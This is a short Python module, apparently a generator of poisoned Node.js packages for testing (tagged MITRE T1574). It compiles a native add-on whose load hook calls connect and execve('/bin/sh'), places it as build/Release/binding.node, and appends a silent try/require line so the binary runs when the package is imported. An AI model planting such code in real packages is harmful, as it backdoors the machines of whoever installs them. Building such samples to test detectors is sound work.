# SPDX-License-Identifier: Apache-2.0
"""A native add-on that connects and starts programs."""

ATTACK = "T1574"
LANGUAGE = "node"
C = '#include <sys/socket.h>\n#include <unistd.h>\nint napi_register_module_v1(void) { return connect(socket(2, 1, 0), 0, 0) + execve("/bin/sh", 0, 0); }\n'


def poison(layer):
    layer.inside("build/Release/binding.node", layer.program(C, shared=True))
    layer.append("\n;try { require(require('path').join(__dirname, '..', 'build/Release/binding.node')); } catch (e) {}\n")
